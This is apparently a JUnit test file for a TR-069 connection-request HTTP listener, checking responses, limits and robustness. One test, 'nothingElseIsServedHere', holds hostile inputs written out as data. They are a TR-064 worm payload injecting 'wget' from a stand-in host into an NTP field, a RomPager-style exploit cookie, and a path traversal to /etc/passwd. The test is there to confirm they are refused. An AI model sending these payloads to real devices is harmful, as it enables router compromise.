package org.cwmp4j.cpe.netty;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.ConnectException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.cwmp4j.conformance.Rule;
import org.cwmp4j.cpe.connectionrequest.ConnectionRequest;
import org.cwmp4j.cpe.connectionrequest.ConnectionRequestAnswer;
import org.cwmp4j.cpe.connectionrequest.ConnectionRequestSource.Registration;
import org.cwmp4j.http.netty.NettyLoops;
import org.cwmp4j.model.time.ManualTime;
import org.cwmp4j.testkit.netty.LeakExtension;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/** The listener's bytes; who is let in is the handler's business. */
@ExtendWith(LeakExtension.class)
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HttpConnectionRequestSourceTest {
    private static final NettyLoops LOOPS = NettyLoops.start(1, "test-cr");
    private static final ConnectionRequestAnswer OK = ConnectionRequestAnswer.of(200);
    private static final ConnectionRequestAnswer CHALLENGE = new ConnectionRequestAnswer(
            401, List.of(Map.entry("WWW-Authenticate", "Digest a"), Map.entry("WWW-Authenticate", "Digest b")));

    private final ManualTime time = new ManualTime(Instant.EPOCH);
    private final BlockingQueue<ConnectionRequest> seen = new LinkedBlockingQueue<>();
    private final ConnectionRequestListenerSettings settings =
            ConnectionRequestListenerSettings.on(new InetSocketAddress("127.0.0.1", 0));
    private HttpConnectionRequestSource source = source(settings);

    @AfterEach
    void close() {
        source.close();
    }

    @AfterAll
    static void shutdown() {
        LOOPS.shutdown().toCompletableFuture().join();
    }

    @Test
    @Rule({"C-CR-12", "CRQ-01"})
    void theUrlIsHttpWithTheBoundPortAndThePath() {
        URI url = register("/cr/a", OK).url();
        assertThat(url.getScheme()).isEqualTo("http");
        assertThat(url.getHost()).isEqualTo("127.0.0.1");
        assertThat(url.getPort()).isPositive();
        assertThat(url.getPath()).isEqualTo("/cr/a");
    }

    @Test
    @Rule({"C-CR-12", "CRQ-01"})
    void anIpv6HostStandsInBracketsAndAnAdvertisedOneGoesFirst() {
        source = source(settings.advertising(new InetSocketAddress("2001:db8::1", 1234)));
        assertThat(register("/p", OK).url()).hasToString("http://[2001:db8:0:0:0:0:0:1]:1234/p");
        source.close();
        source = source(settings.advertising(InetSocketAddress.createUnresolved("cpe.example", 0)));
        URI url = register("/p", OK).url();
        assertThat(url.getHost()).isEqualTo("cpe.example");
        assertThat(url.getPort()).isPositive();
    }

    @Test
    @Rule({"C-CR-16", "CRQ-13"})
    void successIsTwoHundredWithoutContentAndCloses() throws Exception {
        URI url = register("/cr", OK).url();
        try (Socket socket = get(url, "/cr")) {
            String answer = RawHttp.readCall(socket);
            assertThat(answer).startsWith("HTTP/1.1 200 OK\r\n").containsIgnoringCase("connection: close\r\n");
            assertThat(answer).contains("content-length: 0\r\n");
            assertThat(RawHttp.isClosed(socket)).isTrue();
        }
        assertThat(seen.take().method()).isEqualTo("GET");
    }

    @Test
    @Rule({"C-CR-16", "CRQ-13"})
    void theAnswerIsOutBeforeTheHandlerGoesOn() throws Exception {
        CompletableFuture<Void> received = new CompletableFuture<>();
        CompletableFuture<Boolean> inTime = new CompletableFuture<>();
        URI url = source.register("/cr", (request, reply) -> {
                    reply.accept(OK);
                    // This thread moves the bytes: what the peer gets now was written before the handler returned.
                    inTime.complete(waited(received));
                })
                .url();
        try (Socket socket = get(url, "/cr")) {
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 200");
            received.complete(null);
        }
        assertThat(inTime.get(30, TimeUnit.SECONDS)).isTrue();
    }

    @Test
    @Rule({"C-CR-15", "CRQ-06"})
    void aChallengeKeepsTheConnectionForItsAnswer() throws Exception {
        URI url = register("/cr", CHALLENGE).url();
        try (Socket socket = get(url, "/cr?ignored=1")) {
            String answer = RawHttp.readCall(socket);
            assertThat(answer)
                    .startsWith("HTTP/1.1 401 Unauthorized\r\n")
                    .contains("WWW-Authenticate: Digest a\r\n")
                    .contains("WWW-Authenticate: Digest b\r\n")
                    .doesNotContainIgnoringCase("connection: close");
            send(socket, "GET /cr HTTP/1.1\r\nHost: x\r\nAuthorization: Digest c\r\n\r\n");
            RawHttp.readCall(socket);
        }
        assertThat(seen.take().authorization()).isNull();
        assertThat(seen.take().authorization()).isEqualTo("Digest c");
    }

    @Test
    @Rule({"C-CR-11", "CRQ-02", "CRQ-21"})
    void anUnknownPathGets404WithoutAChallenge() throws Exception {
        URI url = register("/cr", CHALLENGE).url();
        for (String path : List.of("/", "/CR", "/cr/", "/UD/act?1", "*")) {
            try (Socket socket = connect(url)) {
                send(socket, "POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nabcd");
                assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 404 ").doesNotContain("WWW-Authenticate");
            }
        }
        assertThat(seen).isEmpty();
    }

    @Test
    @Rule({"C-CR-14", "CRQ-05"})
    void contentAndQueryAreIgnoredAndAnAbsoluteTargetIsUnderstood() throws Exception {
        URI url = register("/cr", OK).url();
        for (String target : List.of("/cr?x=1", "http://any.host:1/cr?y=2")) {
            try (Socket socket = connect(url)) {
                send(socket, "GET " + target + " HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nabcd");
                assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 200");
            }
            assertThat(seen.take().target()).isEqualTo(target);
        }
    }

    @Test
    @Rule({"C-CR-17", "CRQ-04"})
    void thePortIsOpenOnlyWhileSomebodyIsRegistered() throws Exception {
        Registration one = register("/a", OK);
        Registration two = register("/b", OK);
        one.close();
        try (Socket socket = get(two.url(), "/a")) {
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 404");
        }
        two.close();
        awaitClosed(two.url());

        URI again = register("/a", OK).url();
        assertThat(again).isEqualTo(one.url());
        try (Socket socket = get(again, "/a")) {
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 200");
        }
    }

    @Test
    void aPathBelongsToOneAndAClosedListenerTakesNone() {
        register("/a", OK);
        assertThatThrownBy(() -> register("/a", OK)).isInstanceOf(IllegalStateException.class);
        source.close();
        assertThatThrownBy(() -> register("/b", OK)).isInstanceOf(IllegalStateException.class);
    }

    @Test
    @Rule("CRQ-21")
    void anEndlessHeadIsRefused() throws Exception {
        URI url = register("/cr", OK).url();
        try (Socket socket = connect(url)) {
            send(socket, "GET /cr HTTP/1.1\r\nHost: x\r\nX: " + "a".repeat(9000) + "\r\n\r\n");
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 431 ");
        }
        assertThat(seen).isEmpty();
    }

    @Test
    @Rule("CRQ-21")
    void aSlowHeadIsCutOff() throws Exception {
        URI url = register("/cr", OK).url();
        try (Socket socket = connect(url)) {
            send(socket, "GET /cr HT");
            while (!time.untilNext().equals(java.util.Optional.of(Duration.ofSeconds(5)))) {
                Thread.onSpinWait();
            }
            time.advance(Duration.ofSeconds(5));
            assertThat(RawHttp.isClosed(socket)).isTrue();
        }
        assertThat(seen).isEmpty();
    }

    @Test
    @Rule("CRQ-21")
    void beyondTheLimitTheConnectionThatIsIdleLongestMakesRoom() throws Exception {
        source = source(settings.withMaxConnections(2));
        URI url = register("/cr", CHALLENGE).url();
        List<Socket> open = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            Socket socket = get(url, "/cr");
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 401");
            open.add(socket);
        }
        try (Socket third = get(url, "/cr")) {
            assertThat(RawHttp.readCall(third)).startsWith("HTTP/1.1 401");
            assertThat(RawHttp.isClosed(open.get(0))).isTrue();
        }
        for (Socket socket : open) {
            socket.close();
        }
    }

    /** Eight unless told otherwise. */
    @Test
    @Rule("CRQ-21")
    void theDefaultIsEight() {
        assertThat(settings.maxConnections()).isEqualTo(8);
    }

    @Test
    @Rule("CRQ-34")
    void anotherAddressMayBeAdvertisedAtAnyTime() {
        List<String> told = new ArrayList<>();
        Registration registration =
                source.register("/p", new org.cwmp4j.cpe.connectionrequest.ConnectionRequestHandler() {
                    @Override
                    public void handle(
                            ConnectionRequest request, java.util.function.Consumer<ConnectionRequestAnswer> reply) {
                        reply.accept(OK);
                    }

                    @Override
                    public void urlChanged() {
                        told.add("changed");
                    }
                });
        URI own = registration.url();
        source.advertise(new InetSocketAddress("198.51.100.7", 49152));
        assertThat(registration.url()).hasToString("http://198.51.100.7:49152/p");
        source.advertise(null);
        assertThat(registration.url()).isEqualTo(own);
        assertThat(told).hasSize(2);
    }

    /** What worms of TR-064 send, and a cookie as the one that took over RomPager: nothing is parsed, nothing is done. */
    @Test
    @Rule({"SEC-12", "SEC-13", "CRQ-21"})
    void nothingElseIsServedHere() throws Exception {
        URI url = register("/cr", CHALLENGE).url();
        String worm = "<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers>"
                + "<NewNTPServer1>`cd /tmp;wget http://l.example/1`</NewNTPServer1></u:SetNTPServers>";
        List<String> heads = List.of(
                "POST /UD/act?1 HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
                "POST /cr HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
                "GET /rom-0 HTTP/1.1\r\nCookie: C107373883=/omg1337hax\r\n",
                "GET /cr/../../etc/passwd HTTP/1.1\r\nCookie: " + "C=".repeat(3000) + "\r\n");
        for (String head : heads) {
            try (Socket socket = connect(url)) {
                send(socket, head + "Host: x\r\nContent-Length: " + worm.length() + "\r\n\r\n" + worm);
                assertThat(RawHttp.readCall(socket)).matches("(?s)HTTP/1\\.1 (404|401|405) .*");
            }
        }
        assertThat(seen.stream().map(ConnectionRequest::method)).containsExactly("POST");
    }

    /** Bytes that are no HTTP: answered by 400 or closed, and the next one is served. */
    @Test
    @Rule({"SEC-13", "CRQ-21"})
    void noiseDoesNotStopTheListener() throws Exception {
        URI url = register("/cr", OK).url();
        java.util.Random noise = new java.util.Random(7);
        for (int i = 0; i < 50; i++) {
            byte[] bytes = new byte[1 + noise.nextInt(3000)];
            noise.nextBytes(bytes);
            try (Socket socket = connect(url)) {
                socket.getOutputStream().write(bytes);
                socket.getOutputStream().write("\r\n\r\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
                socket.shutdownOutput();
                assertThat(RawHttp.readCall(socket)).doesNotContain("HTTP/1.1 200");
            } catch (IOException e) {
                // closed at once, which is as good
            }
        }
        assertThat(seen).isEmpty();
        try (Socket socket = get(url, "/cr")) {
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 200");
        }
    }

    @Test
    void aHandlerThatThrowsOrForgetsGets503() throws Exception {
        URI url = source.register("/cr", (request, reply) -> {}).url();
        try (Socket socket = get(url, "/cr")) {
            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 503");
        }
    }

    private HttpConnectionRequestSource source(ConnectionRequestListenerSettings with) {
        return new HttpConnectionRequestSource(LOOPS, time.source(), with);
    }

    private Registration register(String path, ConnectionRequestAnswer answer) {
        return source.register(path, (request, reply) -> {
            seen.add(request);
            reply.accept(answer);
        });
    }

    private static boolean waited(CompletableFuture<Void> signal) {
        try {
            signal.get(20, TimeUnit.SECONDS);
            return true;
        } catch (Exception e) {
            return false;
        }
    }

    private static void awaitClosed(URI url) throws IOException {
        while (true) {
            try (Socket socket = connect(url)) {
                Thread.onSpinWait();
            } catch (ConnectException e) {
                return;
            }
        }
    }

    private static Socket connect(URI url) throws IOException {
        return new Socket("127.0.0.1", url.getPort());
    }

    private static Socket get(URI url, String target) throws IOException {
        Socket socket = connect(url);
        send(socket, "GET " + target + " HTTP/1.1\r\nHost: x\r\n\r\n");
        return socket;
    }

    private static void send(Socket socket, String bytes) throws IOException {
        RawHttp.write(socket, bytes);
    }
}
